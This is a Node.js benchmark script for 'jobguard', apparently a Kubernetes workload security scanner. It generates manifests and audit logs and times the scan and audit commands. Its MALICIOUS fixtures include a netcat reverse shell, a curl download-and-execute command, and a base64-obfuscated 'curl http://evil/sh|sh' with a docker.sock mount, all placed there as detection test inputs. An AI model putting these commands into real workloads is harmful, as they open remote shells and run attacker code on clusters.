// Offline throughput: `jobguard scan` over 10,000 generated manifests and `jobguard audit` over a
// 100,000-event JSON-lines log, each in a child process against dist/ (run `npm run build` first).
//
// Peak RSS: the child is started with `--import` of a tiny module that writes
// `process.resourceUsage().maxRSS` (getrusage ru_maxrss, KiB, of that process alone) to stderr on
// exit. That works wherever Node runs; `/usr/bin/time -v` is often missing (slim images, macOS has
// a different flag) and measures the same number.
//
// Usage: node bench/offline.mjs [--manifests N] [--events N] [--profile default|kql] [--dist DIR]
import { spawn } from 'node:child_process';
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { createWriteStream, existsSync } from 'node:fs';
import { once } from 'node:events';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const { values } = parseArgs({
  options: {
    manifests: { type: 'string', default: '10000' },
    events: { type: 'string', default: '100000' },
    profile: { type: 'string', default: 'default' },
    dist: { type: 'string', default: path.join(root, 'dist') },
  },
});
const MANIFESTS = Number(values.manifests);
const EVENTS = Number(values.events);
const main = path.resolve(values.dist, 'main.js');
if (!existsSync(main)) {
  console.error(`no build at ${main}: run npm run build first`);
  process.exit(2);
}

const MALICIOUS = [
  {
    image: 'alpine:latest',
    command: ['/bin/sh', '-c'],
    args: ['nc 10.0.0.1 4444 -e /bin/sh'],
    privileged: true,
  },
  {
    image: 'ubuntu:20.04',
    command: ['/bin/bash', '-c'],
    args: ['curl -s http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x'],
  },
  {
    image: 'busybox',
    command: ['sh', '-c', 'echo Y3VybCBodHRwOi8vZXZpbC9zaHxzaA== | base64 -d | sh'],
    hostPath: '/var/run/docker.sock',
  },
];
const BENIGN = [
  { image: 'registry.example.com/reports/generator:1.4.2', args: ['--since', '24h'] },
  {
    image: 'ghcr.io/acme/db-backup@sha256:' + 'a'.repeat(64),
    command: ['/app/backup'],
    args: ['--target', 's3://backups/db'],
  },
  { image: 'python:3.12-slim', command: ['python', '/app/cleanup.py'] },
];

function workload(i) {
  const malicious = i % 5 === 0;
  const spec = (malicious ? MALICIOUS : BENIGN)[i % 3];
  const container = { name: 'main', image: spec.image };
  if (spec.command) container.command = spec.command;
  if (spec.args) container.args = spec.args;
  if (spec.privileged) container.securityContext = { privileged: true };
  const pod = { restartPolicy: 'Never', containers: [container] };
  if (spec.hostPath) {
    pod.volumes = [{ name: 'host', hostPath: { path: spec.hostPath } }];
    container.volumeMounts = [{ name: 'host', mountPath: spec.hostPath }];
  }
  const metadata = { name: `${malicious ? 'm' : 'b'}-${i}`, namespace: `team-${i % 20}` };
  const template = { spec: pod };
  return i % 2 === 0
    ? {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata,
        spec: { schedule: '*/10 * * * *', jobTemplate: { spec: { template } } },
      }
    : { apiVersion: 'batch/v1', kind: 'Job', metadata, spec: { template } };
}

function toYaml(value, indent = '') {
  // Enough YAML for these objects; JSON for leaves keeps quoting right.
  if (Array.isArray(value))
    return value.map((v) => `${indent}- ${toYaml(v, indent + '  ').trimStart()}`).join('\n');
  if (value && typeof value === 'object') {
    return Object.entries(value)
      .map(([k, v]) =>
        v && typeof v === 'object' && (Array.isArray(v) ? v.length > 0 : Object.keys(v).length > 0)
          ? `${indent}${k}:\n${toYaml(v, indent + '  ')}`
          : `${indent}${k}: ${JSON.stringify(v)}`,
      )
      .join('\n');
  }
  return `${indent}${JSON.stringify(value)}`;
}

function auditEvent(i) {
  const kinds = i % 10;
  const base = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `bench-${i}`,
    stage: 'ResponseComplete',
    user: {
      username: i % 7 === 0 ? 'system:serviceaccount:ci:deployer' : 'alice@example.com',
      groups: ['dev'],
    },
    sourceIPs: ['203.0.113.10'],
    userAgent: 'kubectl/v1.30.0 (linux/amd64)',
    requestReceivedTimestamp: new Date(Date.UTC(2025, 2, 1) + i * 1000).toISOString(),
    stageTimestamp: new Date(Date.UTC(2025, 2, 1) + i * 1000 + 20).toISOString(),
  };
  if (kinds < 6) {
    // reads and other resources: most of a real kube-audit log
    return {
      ...base,
      verb: kinds < 4 ? 'get' : 'list',
      objectRef: { resource: 'pods', namespace: 'default', name: `p-${i}` },
    };
  }
  const object = workload(i);
  return {
    ...base,
    verb: 'create',
    objectRef: {
      resource: object.kind === 'CronJob' ? 'cronjobs' : 'jobs',
      namespace: object.metadata.namespace,
      name: object.metadata.name,
      apiGroup: 'batch',
      apiVersion: 'v1',
    },
    requestObject: object,
    responseObject: object,
  };
}

const RSS_HOOK = `data:text/javascript,process.on('exit',()=>{process.stderr.write('\\nBENCH_MAXRSS_KIB='+process.resourceUsage().maxRSS+'\\n')})`;

async function timeCli(args) {
  const started = process.hrtime.bigint();
  const child = spawn(process.execPath, ['--import', RSS_HOOK, main, ...args], {
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let bytes = 0;
  let tail = '';
  let stderr = '';
  child.stdout.on('data', (chunk) => {
    bytes += chunk.length;
    tail = (tail + chunk).slice(-4096);
  });
  child.stderr.on('data', (chunk) => (stderr += chunk));
  const [code] = await once(child, 'close');
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  const rss = Number(/BENCH_MAXRSS_KIB=(\d+)/.exec(stderr)?.[1] ?? NaN);
  // The JSON output ends with the summary line: proof the run scored something and finished.
  const summary = /"summary":(\{[^}]*\})\}\s*$/.exec(tail)?.[1];
  if (code !== 0 || summary === undefined)
    throw new Error(`jobguard ${args[0]} exited ${code}: ${stderr.slice(0, 800)}`);
  return { seconds, rssMiB: rss / 1024, bytes, summary: JSON.parse(summary) };
}

const dir = await mkdtemp(path.join(tmpdir(), 'jobguard-bench-'));
try {
  const manifests = path.join(dir, 'manifests');
  await mkdir(manifests);
  for (let i = 0; i < MANIFESTS; i += 1) {
    await writeFile(path.join(manifests, `${String(i).padStart(6, '0')}.yaml`), `${toYaml(workload(i))}\n`);
  }
  const log = path.join(dir, 'audit.jsonl');
  const out = createWriteStream(log);
  for (let i = 0; i < EVENTS; i += 1) {
    if (!out.write(`${JSON.stringify(auditEvent(i))}\n`)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'close');

  const profile = ['--profile', values.profile, '--fail-on', 'never', '--format', 'json'];
  const scan = await timeCli(['scan', ...profile, manifests]);
  const audit = await timeCli(['audit', ...profile, log]);
  console.log(`scan summary: ${JSON.stringify(scan.summary)}`);
  console.log(`audit summary: ${JSON.stringify(audit.summary)}`);
  const rows = [
    ['run', 'items', 'seconds', 'items/s', 'peak RSS (MiB)'],
    [
      `scan (${values.profile})`,
      `${MANIFESTS} objects`,
      scan.seconds.toFixed(2),
      Math.round(MANIFESTS / scan.seconds),
      scan.rssMiB.toFixed(0),
    ],
    [
      `audit (${values.profile})`,
      `${EVENTS} events`,
      audit.seconds.toFixed(2),
      Math.round(EVENTS / audit.seconds),
      audit.rssMiB.toFixed(0),
    ],
  ];
  const widths = rows[0].map((_, i) => Math.max(...rows.map((r) => String(r[i]).length)));
  for (const row of rows) console.log(row.map((c, i) => String(c).padEnd(widths[i])).join('  '));
  console.log(
    `node ${process.version}, ${process.platform}/${process.arch}; wall time includes Node start-up`,
  );
} finally {
  await rm(dir, { recursive: true, force: true });
}
